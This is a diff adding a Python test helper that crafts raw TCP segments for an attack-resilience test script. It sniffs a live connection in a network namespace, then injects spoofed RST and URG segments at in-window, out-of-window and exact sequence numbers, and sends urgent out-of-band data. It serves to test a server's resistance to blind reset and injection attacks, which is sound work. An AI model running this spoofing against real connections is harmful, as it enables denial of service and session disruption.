@@ -1,0 +1,217 @@
+#!/usr/bin/python3
+"""Crafted TCP segments against a live association, standard library only
+(raw sockets), for tests/attack/test_urg_rst.sh.
+
+  tcpcraft.py blind SNIFF_NS SEND_NS CLIENT SERVER PORT
+        Watches a connection CLIENT -> SERVER:PORT in SNIFF_NS (the
+        client's namespace, as an attacker on the LAN would see it) until
+        both directions carried a segment; then, from SEND_NS with spoofed
+        sources: an URG segment ahead of the client's stream, and resets
+        outside and inside each receiver's window, five rounds. Prints what
+        it sent; exit 0, 2 when no connection was seen.
+  tcpcraft.py idle SNIFF_NS SEND_NS DEV_NS SERVER PORT CALLING CALLED
+        Opens an association from SNIFF_NS and leaves it idle; sends a
+        reset inside the acceptor's window, then one at exactly its next
+        byte, each from SEND_NS with the client's address, and prints after
+        each how many connections the acceptor (DEV_NS) holds established.
+  tcpcraft.py oob SERVER PORT CALLING CALLED
+        Opens an association and sends one byte of urgent data (MSG_OOB),
+        as the client itself would. Exit 0 when the connection is then
+        reset or aborted, 1 when it stays usable.
+"""
+import ctypes
+import os
+import select
+import socket
+import struct
+import subprocess
+import sys
+import time
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path[:0] = [os.path.join(HERE, "..", "netns"), os.path.join(HERE, "..", "pcap")]
+import craft  # noqa: E402  (csum, ipv4)
+import peer  # noqa: E402  (assoc_rq, read_pdu, connect)
+
+FIN, SYN, RST, PSH, ACK, URG = 0x01, 0x02, 0x04, 0x08, 0x10, 0x20
+ETH_P_ALL = 0x0003	# outgoing frames reach only ETH_P_ALL taps
+CLONE_NEWNET = 0x40000000
+
+
+def enter(ns):
+    """This thread's sockets from now on belong to namespace ns."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    fd = os.open("/run/netns/" + ns, os.O_RDONLY)
+    if libc.setns(fd, CLONE_NEWNET) != 0:
+        raise OSError(ctypes.get_errno(), "setns " + ns)
+    os.close(fd)
+
+
+def sniffer():
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+    s.bind(("eth0", ETH_P_ALL))
+    return s
+
+
+def parse(frame):
+    """(src, dst, sport, dport, seq, ack, flags, payload length) of an IPv4
+    TCP frame, or None."""
+    ip = frame[14:]
+    if frame[12:14] != b"\x08\x00" or len(ip) < 40 or ip[0] >> 4 != 4 \
+            or ip[9] != socket.IPPROTO_TCP:
+        return None
+    ihl = (ip[0] & 15) * 4
+    total = struct.unpack_from(">H", ip, 2)[0]
+    tcp = ip[ihl:]
+    sport, dport, seq, ack, off, flags = struct.unpack_from(">HHIIBB", tcp, 0)
+    return (socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20]), sport, dport, seq, ack,
+            flags, total - ihl - (off >> 4) * 4)
+
+
+def segment(src, dst, sport, dport, seq, ack, flags, data=b"", urg=0):
+    s, d = socket.inet_aton(src), socket.inet_aton(dst)
+    tcp = struct.pack(">HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff, 5 << 4,
+                      flags, 8192, 0, urg) + data
+    pseudo = s + d + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp))
+    tcp = tcp[:16] + struct.pack(">H", craft.csum(pseudo + tcp)) + tcp[18:]
+    return craft.ipv4(s, d, socket.IPPROTO_TCP, tcp, 0)
+
+
+class Sender:
+    def __init__(self):
+        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+    def send(self, what, src, dst, sport, dport, seq, ack, flags, data=b"", urg=0):
+        self.s.sendto(segment(src, dst, sport, dport, seq, ack, flags, data, urg), (dst, 0))
+        print("sent %s %s:%d -> %s:%d seq %u" % (what, src, sport, dst, dport, seq & 0xffffffff))
+
+
+def watch(sn, client, server, port, secs):
+    """The client's and the server's last (seq, end, ack) and the client's
+    port, once both were seen with payload from the client."""
+    last = {}
+    cport = None
+    deadline = time.time() + secs
+    while time.time() < deadline and not (cport and "c" in last and "s" in last):
+        if not select.select([sn], [], [], 0.5)[0]:
+            continue
+        t = parse(sn.recv(65600))
+        if not t:
+            continue
+        src, dst, sport, dport, seq, ack, flags, n = t
+        if src == client and dst == server and dport == port and n > 0:
+            cport = sport
+            last["c"] = (seq, seq + n, ack)
+        elif src == server and dst == client and sport == port and sport and dport == cport:
+            last["s"] = (seq, seq + n, ack)
+    return cport, last
+
+
+def cmd_blind(a):
+    enter(a.sniff_ns)
+    sn = sniffer()
+    cport, last = watch(sn, a.client, a.server, a.port, 20)
+    if not cport:
+        print("blind: no connection seen")
+        return 2
+    enter(a.send_ns)
+    out = Sender()
+    cseq, cend, cack = last["c"]
+    sseq, send, _ = last["s"]
+    for _ in range(5):
+        # URG ahead of the client's stream: a guess, not the next byte
+        out.send("urg", a.client, a.server, cport, a.port, cend + 100000, cack, ACK | URG | PSH,
+                 b"!", urg=1)
+        out.send("rst-outside", a.client, a.server, cport, a.port, cend + 0x80000000, 0, RST)
+        out.send("rst-window", a.client, a.server, cport, a.port, cend + 100000, 0, RST)
+        out.send("rst-outside", a.server, a.client, a.port, cport, send + 0x80000000, 0, RST)
+        out.send("rst-window", a.server, a.client, a.port, cport, send + 1000, 0, RST)
+        time.sleep(0.1)
+    return 0
+
+
+def established(dev_ns, port):
+    out = subprocess.run(["ip", "netns", "exec", dev_ns, "ss", "-Htn", "state", "established",
+                          "( sport = :%d )" % port], capture_output=True, text=True).stdout
+    return len(out.splitlines())
+
+
+def cmd_idle(a):
+    enter(a.sniff_ns)
+    sn = sniffer()
+    s = peer.connect(a.server, a.port, 10)
+    s.sendall(peer.assoc_rq(a.calling, a.called))
+    kind, _ = peer.read_pdu(s)
+    if kind != 2:
+        print("idle: no A-ASSOCIATE-AC (PDU type %d)" % kind)
+        return 2
+    client, cport = s.getsockname()
+    nxt = None
+    deadline = time.time() + 2
+    while time.time() < deadline:		# the client's own segments: its next byte
+        if not select.select([sn], [], [], 0.2)[0]:
+            if nxt is not None:
+                break
+            continue
+        t = parse(sn.recv(65600))
+        if t and t[0] == client and t[2] == cport:
+            end = t[4] + t[7] + (1 if t[6] & (SYN | FIN) else 0)
+            if nxt is None or (end - nxt) & 0x80000000 == 0:
+                nxt = end & 0xffffffff
+    if nxt is None:
+        print("idle: own segments not seen")
+        return 2
+    enter(a.send_ns)
+    out = Sender()
+    out.send("rst-window", client, a.server, cport, a.port, nxt + 1000, 0, RST)
+    time.sleep(0.5)
+    print("after rst-window: established %d" % established(a.dev_ns, a.port))
+    out.send("rst-exact", client, a.server, cport, a.port, nxt, 0, RST)
+    time.sleep(0.5)
+    print("after rst-exact: established %d" % established(a.dev_ns, a.port))
+    s.close()
+    return 0
+
+
+def cmd_oob(a):
+    s = peer.connect(a.server, a.port, 10)
+    s.sendall(peer.assoc_rq(a.calling, a.called))
+    kind, _ = peer.read_pdu(s)
+    if kind != 2:
+        print("oob: no A-ASSOCIATE-AC (PDU type %d)" % kind)
+        return 1
+    s.send(b"!", socket.MSG_OOB)
+    try:
+        kind, _ = peer.read_pdu(s)
+        print("oob: answered with PDU type %d" % kind)
+        return 0 if kind == 7 else 1
+    except (ConnectionError, OSError) as e:
+        print("oob: %s" % e)
+        return 0 if not isinstance(e, socket.timeout) else 1
+
+
+def main():
+    import argparse
+    p = argparse.ArgumentParser()
+    sub = p.add_subparsers(dest="cmd", required=True)
+    b = sub.add_parser("blind")
+    for n in ("sniff_ns", "send_ns", "client", "server"):
+        b.add_argument(n)
+    b.add_argument("port", type=int)
+    i = sub.add_parser("idle")
+    for n in ("sniff_ns", "send_ns", "dev_ns", "server"):
+        i.add_argument(n)
+    i.add_argument("port", type=int)
+    i.add_argument("calling")
+    i.add_argument("called")
+    o = sub.add_parser("oob")
+    o.add_argument("server")
+    o.add_argument("port", type=int)
+    o.add_argument("calling")
+    o.add_argument("called")
+    a = p.parse_args()
+    return {"blind": cmd_blind, "idle": cmd_idle, "oob": cmd_oob}[a.cmd](a)
+
+
+if __name__ == "__main__":
+    sys.exit(main())
